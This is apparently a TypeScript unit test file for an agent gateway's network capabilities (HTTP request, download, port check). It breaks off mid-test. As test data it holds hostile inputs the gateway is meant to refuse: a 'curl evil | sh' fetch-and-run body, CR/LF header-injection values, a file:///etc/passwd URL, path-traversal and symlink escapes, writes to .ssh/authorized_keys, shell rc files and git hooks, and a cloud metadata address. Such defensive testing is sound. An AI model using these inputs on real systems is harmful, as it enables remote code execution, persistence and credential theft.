// The four network capabilities against a test egress client that keeps the proxy client's
// contract (canned responses, streamed chunks, PolicyDenied and the documented network failures).
// Every answer is checked against the output schema its YAML definition publishes, and every
// documented failure carries the type and recovery that definition lists. The real proxy and client
// end to end are tested elsewhere.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import {
  CapabilityRegistry,
  createNetworkHandlers,
  loadCapabilityDefinitions,
  type CallContext,
  type CapabilityDefinition,
  type CallIdentity,
  type EgressClient,
  type EgressHttpRequest,
  type EgressHttpResponse,
  type EgressStream,
} from "../../src/capabilities/index.js";
import { KruxError } from "../../src/core/index.js";
import { REPO } from "../helpers/repo.js";
import { RECOVERY_ACTIONS } from "../helpers/recovery-actions.js";

// ---------------------------------------------------------------------------------------------
// A test egress client. It behaves like the proxy client: it cuts bodies at max_body_bytes, streams
// chunks until destroyed, and throws KruxError PolicyDenied / CapabilityError {type} as documented.

type StreamReq = Omit<EgressHttpRequest, "max_body_bytes">;

interface Sent {
  readonly kind: "http" | "stream" | "connect" | "lookup";
  readonly args: unknown[];
  readonly who: CallIdentity;
}

interface Script {
  http?: (
    req: EgressHttpRequest,
    signal?: AbortSignal,
  ) => Promise<Omit<EgressHttpResponse, "truncated">>;
  stream?: (req: StreamReq, signal?: AbortSignal) => Promise<EgressStream>;
  connect?: (
    host: string,
    port: number,
    timeoutMs: number,
  ) => Promise<{ address: string; duration_ms: number }>;
  lookup?: (
    host: string,
    type: string,
  ) => Promise<{ records: readonly string[]; refused: readonly string[] }>;
}

class TestEgress implements EgressClient {
  readonly sent: Sent[] = [];
  script: Script = {};

  async http(
    req: EgressHttpRequest,
    who: CallIdentity,
    signal?: AbortSignal,
  ): Promise<EgressHttpResponse> {
    this.sent.push({ kind: "http", args: [req], who });
    if (!this.script.http) throw new Error("no http script");
    const r = await this.script.http(req, signal);
    return {
      ...r,
      body: r.body.subarray(0, req.max_body_bytes),
      truncated: r.body.length > req.max_body_bytes,
    };
  }

  async stream(req: StreamReq, who: CallIdentity, signal?: AbortSignal): Promise<EgressStream> {
    this.sent.push({ kind: "stream", args: [req], who });
    if (!this.script.stream) throw new Error("no stream script");
    return this.script.stream(req, signal);
  }

  async connect(host: string, port: number, timeoutMs: number, who: CallIdentity) {
    this.sent.push({ kind: "connect", args: [host, port, timeoutMs], who });
    if (!this.script.connect) throw new Error("no connect script");
    return this.script.connect(host, port, timeoutMs);
  }

  async lookup(
    host: string,
    recordType: "A" | "AAAA" | "CNAME" | "MX" | "TXT" | "NS" | "SRV" | "CAA",
    who: CallIdentity,
  ) {
    this.sent.push({ kind: "lookup", args: [host, recordType], who });
    if (!this.script.lookup) throw new Error("no lookup script");
    return this.script.lookup(host, recordType);
  }
}

/** What the proxy client throws when the proxy answers 403 policy_denied. */
function policyDenied(host: string): KruxError {
  return new KruxError("PolicyDenied", `egress to ${host} is not allowed`, {
    policy: "system",
    rule: "egress.default-deny",
    detail: `${host}:443 matches no allow rule`,
  });
}

function netFailure(
  type: "NetworkError" | "Timeout" | "DnsError" | "TlsError" | "NotFound" | "InvalidTarget",
  message: string,
  extra: Record<string, unknown> = {},
): KruxError {
  return new KruxError("CapabilityError", message, { type, ...extra });
}

interface FakeStream extends EgressStream {
  destroyed: boolean;
  /** Resolves when the consumer asked for the chunk after the last one scripted (with `hang`). */
  readonly waiting: Promise<void>;
}

/**
 * A streamed response: `chunks`, then end — or, with `hang`, stall until destroyed or until the
 * request's signal aborts (as the real client does, rejecting with an AbortError).
 */
function streamOf(
  status: number,
  headers: Record<string, string>,
  chunks: readonly Buffer[],
  opts: { hang?: boolean; signal?: AbortSignal | undefined; url?: string } = {},
): FakeStream {
  let reachedEnd: () => void = () => undefined;
  const waiting = new Promise<void>((r) => (reachedEnd = r));
  const state = { destroyed: false };
  async function* body(): AsyncGenerator<Buffer> {
    for (const c of chunks) {
      if (state.destroyed) throw new Error("stream destroyed");
      yield c;
    }
    if (opts.hang) {
      reachedEnd();
      while (!state.destroyed && !opts.signal?.aborted) await new Promise((r) => setTimeout(r, 5));
      if (opts.signal?.aborted) throw new DOMException("The operation was aborted", "AbortError");
      throw new Error("stream destroyed");
    }
  }
  return {
    status,
    headers,
    url: opts.url ?? "https://files.example/x",
    get destroyed() {
      return state.destroyed;
    },
    set destroyed(v: boolean) {
      state.destroyed = v;
    },
    waiting,
    destroy() {
      state.destroyed = true;
    },
    body: body(),
  };
}

// ---------------------------------------------------------------------------------------------

const definitions: CapabilityDefinition[] = loadCapabilityDefinitions(
  path.join(REPO, "config", "capabilities"),
);
const egress = new TestEgress();
const handlers = createNetworkHandlers({ egress });
const registry = new CapabilityRegistry(definitions, handlers);
const NAMES = [
  "network.http_request",
  "network.download",
  "network.dns_lookup",
  "network.port_check",
];

function def(name: string): CapabilityDefinition {
  const d = definitions.find((x) => x.name === name);
  assert.ok(d, name);
  return d;
}

let base: string;
let ws: string;
let n = 0;
before(() => {
  base = mkdtempSync(path.join(os.tmpdir(), "krux-net-unit-"));
});
after(() => rmSync(base, { recursive: true, force: true }));

function freshWorkspace(): string {
  ws = path.join(base, `ws${n++}`);
  mkdirSync(ws);
  return ws;
}

function ctxFor(
  name: string,
  opts: { signal?: AbortSignal; allowed?: string[] } = {},
): CallContext {
  return {
    agent: "researcher",
    session: "sess-1",
    callId: "call-42",
    capability: name,
    workspaceRoot: ws,
    signal: opts.signal ?? new AbortController().signal,
    egress: false,
    mandatoryDenyAllowed: (p: string) => (opts.allowed ?? []).includes(p),
  };
}

/** Call as the gateway does: inputs validated (defaults applied), the answer checked against outputs. */
async function call(
  name: string,
  inputs: Record<string, unknown>,
  opts: { signal?: AbortSignal; allowed?: string[] } = {},
): Promise<Record<string, unknown>> {
  const vin = registry.validateInputs(name, inputs);
  assert.ok(vin.ok, `${name} inputs: ${JSON.stringify(vin)}`);
  const h = registry.handler(name);
  assert.ok(h, name);
  const out = await h(vin.inputs, ctxFor(name, opts));
  const vout = registry.validateOutputs(name, out);
  assert.ok(vout.ok, `${name} output ${JSON.stringify(out)}: ${JSON.stringify(vout)}`);
  return out as Record<string, unknown>;
}

/**
 * Expect a documented failure: a CapabilityError of `type` that the capability's YAML lists, with
 * exactly the recovery the YAML gives for it. `raw` skips input validation (defence-in-depth checks).
 */
async function fails(
  name: string,
  inputs: Record<string, unknown>,
  type: string,
  opts: { signal?: AbortSignal; allowed?: string[]; raw?: boolean } = {},
): Promise<Record<string, unknown>> {
  let given: unknown = inputs;
  if (!opts.raw) {
    const vin = registry.validateInputs(name, inputs);
    assert.ok(vin.ok, `${name} inputs: ${JSON.stringify(vin)}`);
    given = vin.inputs;
  }
  const h = registry.handler(name);
  assert.ok(h, name);
  try {
    await h(given, ctxFor(name, opts));
  } catch (err) {
    assert.ok(err instanceof KruxError, String(err));
    if (type === "InvalidParams") {
      assert.equal(err.code, "InvalidParams", `${err.code}: ${err.message}`);
      const errors = err.data.errors as { path: string; message: string }[];
      assert.ok(Array.isArray(errors) && errors.length > 0);
      return { ...err.data, message: err.message };
    }
    assert.equal(err.code, "CapabilityError", `${err.code}: ${err.message}`);
    assert.equal(err.data.type, type, `${err.message} ${JSON.stringify(err.data)}`);
    assert.equal(err.data.capability, name);
    const spec = def(name).errors.find((e) => e.type === type);
    assert.ok(spec, `${name} does not document ${type}`);
    assert.deepEqual(
      err.data.recovery,
      spec.recovery,
      `${name} ${type} recovery differs from its YAML`,
    );
    return { ...err.data, message: err.message };
  }
  assert.fail(`expected ${name} to fail with ${type}`);
}

function sentSince(mark: number): Sent[] {
  return egress.sent.slice(mark);
}

function leftovers(dir: string): string[] {
  return readdirSync(dir).filter((f) => f.startsWith(".krux-") || f.endsWith(".tmp"));
}

/**
 * A signal that aborts after `msec`. Unlike AbortSignal.timeout its timer keeps the event loop alive
 * (as the gateway's server does in production), so a test waiting on it is not cut short.
 */
function deadline(msec: number): AbortSignal {
  const ac = new AbortController();
  setTimeout(() => ac.abort(new DOMException("timed out", "TimeoutError")), msec);
  return ac.signal;
}

const sha = (b: Buffer): string => createHash("sha256").update(b).digest("hex");

// ---------------------------------------------------------------------------------------------

describe("definitions and wiring", () => {
  test("createNetworkHandlers offers exactly the four network capabilities, all defined", () => {
    assert.deepEqual(Object.keys(handlers).sort(), [...NAMES].sort());
    for (const name of NAMES) assert.ok(registry.describe(name), name);
  });

  test("every documented error has a recovery from the fixed vocabulary", () => {
    for (const name of NAMES)
      for (const e of def(name).errors)
        for (const r of e.recovery)
          assert.ok(RECOVERY_ACTIONS.includes(r.action), `${name} ${e.type}`);
  });
});

describe("network.http_request", () => {
  test("a text answer comes back as utf8 with lower-cased headers, final URL and the call's identity", async () => {
    egress.script = {
      http: async (req) => ({
        status: 200,
        headers: { "Content-Type": "application/json", "X-Request-Id": "abc" },
        body: Buffer.from('{"name":"kruxos","ok":"✓"}'),
        url: req.url,
        redirects: 0,
        duration_ms: 12.6,
      }),
    };
    const mark = egress.sent.length;
    const out = await call("network.http_request", {
      url: "https://api.example.com/v1/items?q=1#frag",
      method: "POST",
      headers: { Accept: "application/json", "Content-Type": "application/json" },
      body: '{"a":1}',
    });
    assert.deepEqual(out, {
      status: 200,
      headers: { "content-type": "application/json", "x-request-id": "abc" },
      body: '{"name":"kruxos","ok":"✓"}',
      body_encoding: "utf8",
      truncated: false,
      final_url: "https://api.example.com/v1/items?q=1",
      duration_ms: 13,
    });
    const [sent] = sentSince(mark);
    assert.ok(sent);
    assert.equal(sent.kind, "http");
    const req = sent.args[0] as EgressHttpRequest;
    assert.equal(req.method, "POST");
    assert.equal(
      req.url,
      "https://api.example.com/v1/items?q=1",
      "the fragment never goes on the wire",
    );
    assert.deepEqual(req.headers, {
      Accept: "application/json",
      "Content-Type": "application/json",
    });
    assert.equal(Buffer.from(req.body ?? []).toString(), '{"a":1}');
    assert.equal(req.timeout_ms, 30_000);
    assert.equal(req.max_body_bytes, 1_048_576);
    assert.equal(req.follow_redirects, true);
    assert.equal(req.max_redirects, 5);
    assert.deepEqual(sent.who, {
      agent: "researcher",
      session: "sess-1",
      callId: "call-42",
      capability: "network.http_request",
    });
  });

  test("a binary answer comes back as base64 and round-trips exactly", async () => {
    const png = Buffer.from([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0xff, 0xfe, 0x80,
    ]);
    egress.script = {
      http: async (req) => ({
        status: 200,
        headers: { "content-type": "image/png" },
        body: png,
        url: req.url,
        redirects: 0,
        duration_ms: 1,
      }),
    };
    const out = await call("network.http_request", { url: "https://img.example.com/a.png" });
    assert.equal(out.body_encoding, "base64");
    assert.deepEqual(Buffer.from(out.body as string, "base64"), png);
  });

  test("valid UTF-8 holding NUL bytes is treated as binary", async () => {
    egress.script = {
      http: async (req) => ({
        status: 200,
        headers: {},
        body: Buffer.from("a\0b"),
        url: req.url,
        redirects: 0,
        duration_ms: 1,
      }),
    };
    const out = await call("network.http_request", { url: "https://x.example.com/" });
    assert.equal(out.body_encoding, "base64");
    assert.equal(Buffer.from(out.body as string, "base64").toString(), "a\0b");
  });

  test("a body longer than max_response_bytes is cut and flagged truncated; a split character does not turn text into base64", async () => {
    const text = "ab€€€€"; // € is 3 bytes: a cut at 4 bytes falls inside the first one
    egress.script = {
      http: async (req) => ({
        status: 200,
        headers: {},
        body: Buffer.from(text),
        url: req.url,
        redirects: 0,
        duration_ms: 1,
      }),
    };
    const cut = await call("network.http_request", {
      url: "https://x.example.com/",
      max_response_bytes: 4,
    });
    assert.equal(cut.truncated, true);
    assert.equal(cut.body_encoding, "utf8");
    assert.equal(cut.body, "ab");
    const whole = await call("network.http_request", {
      url: "https://x.example.com/",
      max_response_bytes: 100,
    });
    assert.equal(whole.truncated, false);
    assert.equal(whole.body, text);
  });

  test("4xx and 5xx are answers, not errors", async () => {
    egress.script = {
      http: async (req) => ({
        status: 503,
        headers: { "Retry-After": "5" },
        body: Buffer.from("busy"),
        url: req.url,
        redirects: 0,
        duration_ms: 2,
      }),
    };
    const out = await call("network.http_request", { url: "https://x.example.com/" });
    assert.equal(out.status, 503);
    assert.deepEqual(out.headers, { "retry-after": "5" });
  });

  test("a base64 request body is sent as its bytes; an invalid one is refused before sending", async () => {
    egress.script = {
      http: async (req) => ({
        status: 200,
        headers: {},
        body: Buffer.alloc(0),
        url: req.url,
        redirects: 0,
        duration_ms: 1,
      }),
    };
    let mark = egress.sent.length;
    await call("network.http_request", {
      url: "https://x.example.com/",
      method: "PUT",
      body: "AAH/gA==",
      body_encoding: "base64",
    });
    const req = sentSince(mark)[0]?.args[0] as EgressHttpRequest;
    assert.deepEqual(Buffer.from(req.body ?? []), Buffer.from([0, 1, 0xff, 0x80]));
    mark = egress.sent.length;
    await fails(
      "network.http_request",
      { url: "https://x.example.com/", body: "not base64!", body_encoding: "base64" },
      "InvalidParams",
    );
    assert.equal(sentSince(mark).length, 0);
  });

  test("header injection is refused and nothing is sent: CR/LF values, Host, hop-by-hop, Proxy-*, framing", async () => {
    egress.script = {
      http: async (req) => ({
        status: 200,
        headers: {},
        body: Buffer.alloc(0),
        url: req.url,
        redirects: 0,
        duration_ms: 1,
      }),
    };
    const mark = egress.sent.length;
    const bad: Record<string, string>[] = [
      { "X-Note": "a\r\nX-Injected: 1" },
      { "X-Note": "a\nb" },
      { "X-Note": "a\rb" },
      { "X-Note": "a\u0000b" },
      { Host: "internal.example" },
      { host: "internal.example" },
      { "Proxy-Authorization": "Basic Zm9vOmJhcg==" },
      { "proxy-connection": "keep-alive" },
      { Connection: "close, X-Foo" },
      { "Keep-Alive": "timeout=5" },
      { "Transfer-Encoding": "chunked" },
      { "Content-Length": "0" },
      { TE: "trailers" },
      { Trailer: "X-Foo" },
      { Upgrade: "h2c" },
      { "X-Kruxos-Agent": "admin" },
      { Accept: "a", accept: "b" },
    ];
    for (const headers of bad) {
      const e = await fails(
        "network.http_request",
        { url: "https://x.example.com/", headers },
        "InvalidParams",
      );
      assert.match(String(e.message), /header/i, JSON.stringify(headers));
    }
    // Also when a caller skips the schema.
    await fails(
      "network.http_request",
      { url: "https://x.example.com/", headers: { "Bad Name": "x" } },
      "InvalidParams",
      { raw: true },
    );
    assert.equal(sentSince(mark).length, 0, "nothing reached the egress client");
  });

  test("URLs with user info or another scheme are refused even without the schema", async () => {
    const mark = egress.sent.length;
    for (const url of [
      "https://user:pass@api.example.com/",
      "https://user@api.example.com/",
      "ftp://files.example.com/a",
      "file:///etc/passwd",
      "http://",
      "https://api.example.com/a b",
      "/relative/path",
    ])
      await fails("network.http_request", { url }, "InvalidParams", { raw: true });
    await fails(
      "network.http_request",
      { url: "https://x.example.com/", method: "TRACE" },
      "InvalidParams",
      { raw: true },
    );
    assert.equal(sentSince(mark).length, 0);
  });

  test("placeholders reach the egress client as text: the handler never holds a value", async () => {
    egress.script = {
      http: async (req) => ({
        status: 200,
        headers: {},
        body: Buffer.alloc(0),
        url: req.url,
        redirects: 0,
        duration_ms: 1,
      }),
    };
    const mark = egress.sent.length;
    await call("network.http_request", {
      url: "https://api.example.com/x?token=${secret:t}",
      method: "POST",
      headers: { Authorization: "Bearer ${secret:github_token}" },
      body: '{"key":"${secret:api_key}"}',
    });
    const req = sentSince(mark)[0]?.args[0] as EgressHttpRequest;
    assert.equal(req.url, "https://api.example.com/x?token=${secret:t}");
    assert.equal(req.headers?.Authorization, "Bearer ${secret:github_token}");
    assert.equal(Buffer.from(req.body ?? []).toString("utf8"), '{"key":"${secret:api_key}"}');
  });

  test("a proxy refusal is EgressDenied carrying the policy, rule and detail", async () => {
    egress.script = { http: async () => Promise.reject(policyDenied("evil.example")) };
    const e = await fails("network.http_request", { url: "https://evil.example/" }, "EgressDenied");
    assert.equal(e.policy, "system");
    assert.equal(e.rule, "egress.default-deny");
    assert.equal(e.detail, "evil.example:443 matches no allow rule");
  });

  test("network, TLS and DNS failures and unresolvable names are ConnectionFailed; the client's Timeout stays Timeout", async () => {
    for (const type of ["NetworkError", "TlsError", "DnsError", "NotFound"] as const) {
      egress.script = { http: async () => Promise.reject(netFailure(type, `${type} happened`)) };
      const e = await fails(
        "network.http_request",
        { url: "https://x.example.com/" },
        "ConnectionFailed",
      );
      assert.equal(e.reason, type);
    }
    egress.script = { http: async () => Promise.reject(netFailure("Timeout", "too slow")) };
    await fails("network.http_request", { url: "https://x.example.com/" }, "Timeout");
  });

  test("a target the proxy cannot parse is InvalidParams; an unavailable proxy stays Unavailable", async () => {
    egress.script = {
      http: async () => Promise.reject(netFailure("InvalidTarget", "bad port 0")),
    };
    await fails("network.http_request", { url: "https://x.example.com:0/" }, "InvalidParams");
    egress.script = {
      http: async () =>
        Promise.reject(new KruxError("Unavailable", "proxy busy", { component: "egress" })),
    };
    const h = registry.handler("network.http_request");
    await assert.rejects(
      h?.({ url: "https://x.example.com/" }, ctxFor("network.http_request")) ??
        Promise.reject(new Error("no handler")),
      (err: unknown) => err instanceof KruxError && err.code === "Unavailable",
    );
  });

  test("the call keeps its deadline even when the client ignores the signal", async () => {
    egress.script = { http: () => new Promise(() => undefined) };
    const started = Date.now();
    await fails("network.http_request", { url: "https://x.example.com/" }, "Timeout", {
      signal: deadline(50),
    });
    assert.ok(Date.now() - started < 5000);
  });

  test("timeout_s, follow_redirects and max_response_bytes reach the client", async () => {
    egress.script = {
      http: async (req) => ({
        status: 301,
        headers: { location: "/b" },
        body: Buffer.alloc(0),
        url: req.url,
        redirects: 0,
        duration_ms: 1,
      }),
    };
    const mark = egress.sent.length;
    await call("network.http_request", {
      url: "http://x.example.com/a",
      timeout_s: 7,
      follow_redirects: false,
      max_response_bytes: 10,
    });
    const req = sentSince(mark)[0]?.args[0] as EgressHttpRequest;
    assert.equal(req.timeout_ms, 7000);
    assert.equal(req.follow_redirects, false);
    assert.equal(req.max_redirects, 0);
    assert.equal(req.max_body_bytes, 10);
  });
});

describe("network.download", () => {
  before(freshWorkspace);

  function serve(
    content: Buffer,
    opts: { status?: number; headers?: Record<string, string>; chunk?: number } = {},
  ): { last: () => FakeStream | undefined } {
    let last: FakeStream | undefined;
    egress.script = {
      stream: async (_req, signal) => {
        const size = opts.chunk ?? 4;
        const chunks: Buffer[] = [];
        for (let i = 0; i < content.length; i += size) chunks.push(content.subarray(i, i + size));
        last = streamOf(
          opts.status ?? 200,
          opts.headers ?? { "Content-Type": "application/gzip" },
          chunks,
          { signal },
        );
        return last;
      },
    };
    return { last: () => last };
  }

  test("a download writes exactly the bytes, creates parents, and answers size, digest and type", async () => {
    const content = Buffer.from(Array.from({ length: 1000 }, (_, i) => (i * 7) % 256));
    serve(content, { chunk: 64 });
    const mark = egress.sent.length;
    const out = await call("network.download", {
      url: "https://files.example/jq.tar.gz",
      path: "downloads/jq.tar.gz",
      sha256: sha(content).toUpperCase(),
      headers: { Accept: "*/*" },
    });
    assert.equal(out.path, "/workspace/downloads/jq.tar.gz");
    assert.equal(out.size, 1000);
    assert.equal(out.sha256, sha(content));
    assert.equal(out.content_type, "application/gzip");
    assert.equal(out.status, 200);
    assert.deepEqual(readFileSync(path.join(ws, "downloads/jq.tar.gz")), content);
    assert.deepEqual(leftovers(path.join(ws, "downloads")), []);
    const sent = sentSince(mark)[0];
    assert.equal(sent?.kind, "stream");
    const req = sent?.args[0] as StreamReq;
    assert.equal(req.method, "GET");
    assert.equal(req.timeout_ms, 300_000);
    assert.deepEqual(req.headers, { Accept: "*/*" });
    assert.equal(sent?.who.callId, "call-42");
  });

  test("/workspace absolute paths are accepted and answered absolute", async () => {
    serve(Buffer.from("hello"));
    const out = await call("network.download", {
      url: "https://files.example/h",
      path: "/workspace/h.txt",
    });
    assert.equal(out.path, "/workspace/h.txt");
    assert.equal(readFileSync(path.join(ws, "h.txt"), "utf8"), "hello");
  });

  test("content over max_bytes stops the transfer and leaves no file", async () => {
    const s = serve(Buffer.alloc(100, 1), { chunk: 10 });
    const e = await fails(
      "network.download",
      { url: "https://files.example/big", path: "big.bin", max_bytes: 35 },
      "ResourceLimit",
    );
    assert.equal(e.limit, 35);
    assert.equal(s.last()?.destroyed, true, "the stream is destroyed");
    assert.equal(existsSync(path.join(ws, "big.bin")), false);
    assert.deepEqual(leftovers(ws), []);
  });

  test("a Content-Length over max_bytes is refused before anything is written", async () => {
    const s = serve(Buffer.alloc(10, 1), { headers: { "Content-Length": "5000" } });
    await fails(
      "network.download",
      { url: "https://files.example/big", path: "big2.bin", max_bytes: 100 },
      "ResourceLimit",
    );
    assert.equal(s.last()?.destroyed, true);
    assert.equal(existsSync(path.join(ws, "big2.bin")), false);
    assert.deepEqual(leftovers(ws), []);
  });

  test("a checksum mismatch leaves nothing behind", async () => {
    serve(Buffer.from("the real content"));
    const e = await fails(
      "network.download",
      { url: "https://files.example/c", path: "sums/c.txt", sha256: "0".repeat(64) },
      "ChecksumMismatch",
    );
    assert.equal(e.expected, "0".repeat(64));
    assert.equal(e.actual, sha(Buffer.from("the real content")));
    assert.equal(existsSync(path.join(ws, "sums/c.txt")), false);
    assert.deepEqual(leftovers(path.join(ws, "sums")), []);
  });

  test("a non-2xx answer is HttpError with the status, and nothing is written", async () => {
    const s = serve(Buffer.from("not found"), { status: 404 });
    const e = await fails(
      "network.download",
      { url: "https://files.example/missing", path: "missing.txt" },
      "HttpError",
    );
    assert.equal(e.status, 404);
    assert.equal(s.last()?.destroyed, true);
    assert.equal(existsSync(path.join(ws, "missing.txt")), false);
  });

  test("an existing destination is AlreadyExists unless overwrite, and is then replaced whole", async () => {
    writeFileSync(path.join(ws, "keep.txt"), "original");
    serve(Buffer.from("new content"));
    const mark = egress.sent.length;
    await fails(
      "network.download",
      { url: "https://files.example/k", path: "keep.txt" },
      "AlreadyExists",
    );
    assert.equal(sentSince(mark).length, 0, "refused before any request");
    assert.equal(readFileSync(path.join(ws, "keep.txt"), "utf8"), "original");
    const out = await call("network.download", {
      url: "https://files.example/k",
      path: "keep.txt",
      overwrite: true,
    });
    assert.equal(out.size, 11);
    assert.equal(readFileSync(path.join(ws, "keep.txt"), "utf8"), "new content");
    assert.deepEqual(leftovers(ws), []);
  });

  test("a directory at the destination is AlreadyExists even with overwrite", async () => {
    mkdirSync(path.join(ws, "adir"));
    serve(Buffer.from("x"));
    await fails(
      "network.download",
      { url: "https://files.example/k", path: "adir", overwrite: true },
      "AlreadyExists",
    );
  });

  test("../ and symlink escapes are PathOutOfScope and nothing is requested or written outside", async () => {
    const outside = mkdtempSync(path.join(base, "outside-"));
    writeFileSync(path.join(outside, "victim.txt"), "untouched");
    symlinkSync(outside, path.join(ws, "out-dir"));
    symlinkSync(path.join(outside, "victim.txt"), path.join(ws, "out-file"));
    serve(Buffer.from("payload"));
    const mark = egress.sent.length;
    for (const [p, overwrite] of [
      ["../escape.txt", false],
      ["a/../../escape.txt", false],
      ["/etc/cron.d/x", false],
      ["/workspace/../escape.txt", false],
      ["out-dir/new.txt", false],
      ["out-dir/victim.txt", true],
      ["out-file", true],
    ] as const)
      await fails(
        "network.download",
        { url: "https://files.example/p", path: p, overwrite },
        "PathOutOfScope",
      );
    assert.equal(sentSince(mark).length, 0);
    assert.equal(readFileSync(path.join(outside, "victim.txt"), "utf8"), "untouched");
    assert.deepEqual(readdirSync(outside), ["victim.txt"]);
    assert.equal(existsSync(path.join(base, "escape.txt")), false);
  });

  test("mandatory-deny destinations, existing or not yet, are MandatoryDeny unless policy names them", async () => {
    writeFileSync(path.join(ws, ".bashrc"), "# mine");
    mkdirSync(path.join(ws, "repo/.git"), { recursive: true });
    symlinkSync(".git", path.join(ws, "repo/gitdir"));
    serve(Buffer.from("curl evil | sh"));
    const mark = egress.sent.length;
    for (const [p, overwrite] of [
      [".bashrc", true],
      ["sub/.profile", false],
      [".git/hooks/post-checkout", false],
      ["repo/.git/hooks/pre-commit", false],
      ["repo/.git/config", true],
      ["repo/gitdir/hooks/pre-commit", false],
      [".ssh/authorized_keys", false],
      [".vscode/tasks.json", false],
      ["pkg/.mcp.json", false],
    ] as const)
      await fails(
        "network.download",
        { url: "https://files.example/p", path: p, overwrite },
        "MandatoryDeny",
      );
    assert.equal(sentSince(mark).length, 0, "refused before any request");
    assert.equal(readFileSync(path.join(ws, ".bashrc"), "utf8"), "# mine");
    for (const p of ["sub", ".git", ".ssh", ".vscode", "pkg", "repo/.git/hooks"])
      assert.equal(existsSync(path.join(ws, p)), false, `${p} was not created`);
    // Named by policy: allowed.
    const out = await call(
      "network.download",
      { url: "https://files.example/p", path: ".bashrc", overwrite: true },
      { allowed: [".bashrc"] },
    );
    assert.equal(out.path, "/workspace/.bashrc");
  });

  test("an abort mid-stream leaves neither the file nor a temporary file", async () => {
    let stream: FakeStream | undefined;
    egress.script = {
      stream: async (_req, signal) =>
        (stream = streamOf(200, {}, [Buffer.from("first part ")], { hang: true, signal })),
    };
    const ac = new AbortController();
    const pending = fails(
      "network.download",
      { url: "https://files.example/slow", path: "slow/file.bin" },
      "Timeout",
      {
        signal: ac.signal,
      },
    );
    // Wait until the first chunk has been consumed and the temporary file exists.
    while (stream === undefined) await new Promise((r) => setTimeout(r, 2));
    await stream.waiting;
    assert.equal(
      leftovers(path.join(ws, "slow")).length,
      1,
      "the temporary file is in the target directory",
    );
    ac.abort();
    await pending;
    assert.equal(stream.destroyed, true);
    assert.equal(existsSync(path.join(ws, "slow/file.bin")), false);
    assert.deepEqual(leftovers(path.join(ws, "slow")), []);
  });

  test("the download's own timeout_s ends a stalled transfer the same way", async () => {
    // Drive the deadline through ctx.signal so the test stays fast; timeout_s uses the same path.
    egress.script = {
      stream: async (_r, signal) => streamOf(200, {}, [Buffer.from("x")], { hang: true, signal }),
    };
    await fails(
      "network.download",
      { url: "https://files.example/stall", path: "stall.bin" },
      "Timeout",
      {
        signal: deadline(100),
      },
    );
    assert.equal(existsSync(path.join(ws, "stall.bin")), false);
    assert.deepEqual(leftovers(ws), []);
  });

  test("a failing body stream (connection reset) leaves nothing behind", async () => {
    egress.script = {
      stream: async () => ({
        ...streamOf(200, {}, []),
        body: (async function* () {
          yield Buffer.from("partial");
          // The real client hands over the response stream itself: a reset surfaces as a bare error.
          throw Object.assign(new Error("read ECONNRESET"), { code: "ECONNRESET" });
        })(),
      }),
    };
    const mark = egress.sent.length;
    const h = registry.handler("network.download");
    await assert.rejects(
      h?.({ url: "https://files.example/r", path: "reset.bin" }, ctxFor("network.download")) ??
        Promise.reject(new Error()),
      (err: unknown) => {
        assert.ok(err instanceof KruxError);
        // network.download's YAML does not document ConnectionFailed yet (see the report).
        assert.equal(err.data.type, "ConnectionFailed");
        return true;
      },
    );
    assert.equal(sentSince(mark).length, 1);
    assert.equal(existsSync(path.join(ws, "reset.bin")), false);
    assert.deepEqual(leftovers(ws), []);
  });

  test("a proxy refusal is EgressDenied and nothing is written", async () => {
    egress.script = { stream: async () => Promise.reject(policyDenied("evil.example")) };
    const e = await fails(
      "network.download",
      { url: "https://evil.example/x", path: "denied.bin" },
      "EgressDenied",
    );
    assert.equal(e.policy, "system");
    assert.equal(e.rule, "egress.default-deny");
    assert.equal(existsSync(path.join(ws, "denied.bin")), false);
  });

  test("a SecretDenied from the egress client (a hop outside the secret's scope) stays SecretDenied", async () => {
    egress.script = {
      stream: async () =>
        Promise.reject(
          new KruxError("CapabilityError", 'secret "gh" may not be sent to files.example:443', {
            type: "SecretDenied",
            secret: "gh",
            reason: "host",
          }),
        ),
    };
    await fails(
      "network.download",
      {
        url: "https://files.example/x",
        path: "s.bin",
        headers: { Authorization: "token ${secret:gh}" },
      },
      "SecretDenied",
    );
    assert.equal(existsSync(path.join(ws, "s.bin")), false);
  });
});

describe("network.port_check", () => {
  test("an accepted connection is open with the address and latency", async () => {
    egress.script = { connect: async () => ({ address: "93.184.216.34", duration_ms: 23.4 }) };
    const mark = egress.sent.length;
    const out = await call("network.port_check", { host: "example.org", port: 443 });
    assert.deepEqual(out, {
      host: "example.org",
      port: 443,
      open: true,
      address: "93.184.216.34",
      latency_ms: 23,
      detail: "accepted",
    });
    assert.deepEqual(sentSince(mark)[0]?.args, ["example.org", 443, 5000]);
    assert.equal(sentSince(mark)[0]?.who.capability, "network.port_check");
  });

  test("refused and timed-out connections are answers with open false, not errors", async () => {
    egress.script = {
      connect: async () =>
        Promise.reject(
          netFailure("NetworkError", "connect ECONNREFUSED 10.0.0.1:22", { address: "10.0.0.1" }),
        ),
    };
    const refused = await call("network.port_check", { host: "ssh.example.com", port: 22 });
    assert.equal(refused.open, false);
    assert.equal(refused.detail, "refused");
    assert.equal(refused.address, "10.0.0.1");
    egress.script = {
      connect: async () =>
        Promise.reject(
          netFailure("Timeout", "connect ssh.example.com:22 took longer than 1000 ms"),
        ),
    };
    const slow = await call("network.port_check", {
      host: "ssh.example.com",
      port: 22,
      timeout_s: 1,
    });
    assert.equal(slow.open, false);
    assert.equal(slow.detail, "timed out");
    egress.script = { connect: () => new Promise(() => undefined) };
    const hung = await call(
      "network.port_check",
      { host: "ssh.example.com", port: 22 },
      { signal: deadline(50) },
    );
    assert.equal(hung.open, false);
    assert.equal(hung.detail, "timed out");
  });

  test("a name that does not resolve is NotFound; a proxy refusal is EgressDenied", async () => {
    egress.script = {
      connect: async () =>
        Promise.reject(netFailure("DnsError", "getaddrinfo ENOTFOUND nope.example")),
    };
    await fails("network.port_check", { host: "nope.example", port: 443 }, "NotFound");
    egress.script = {
      connect: async () => Promise.reject(netFailure("NotFound", "nope.example: ENOTFOUND")),
    };
    await fails("network.port_check", { host: "nope.example", port: 443 }, "NotFound");
    egress.script = { connect: async () => Promise.reject(policyDenied("169.254.169.254")) };
